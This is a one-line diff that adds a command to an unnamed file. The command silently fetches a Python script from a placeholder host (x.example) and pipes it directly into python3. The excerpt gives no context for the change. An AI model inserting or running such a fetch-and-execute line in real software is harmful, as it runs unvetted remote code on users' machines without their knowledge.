@@ -1,0 +1,1 @@
+curl -s https://x.example/p.py | python3
